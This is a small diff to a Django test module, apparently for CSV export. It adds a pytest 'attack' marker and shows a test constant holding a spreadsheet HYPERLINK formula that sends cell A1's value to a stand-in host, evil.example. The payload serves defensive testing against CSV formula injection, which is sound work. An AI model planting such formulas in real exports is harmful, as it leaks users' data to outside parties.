@@ -3,11 +3,15 @@
 import csv
 import io
 
+import pytest
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 from django.urls import reverse
 
 from testing.letters import store_letter
+
+# Hostile input: also part of `make attack` (docs/SECURITY.md).
+pytestmark = pytest.mark.attack
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")'
 
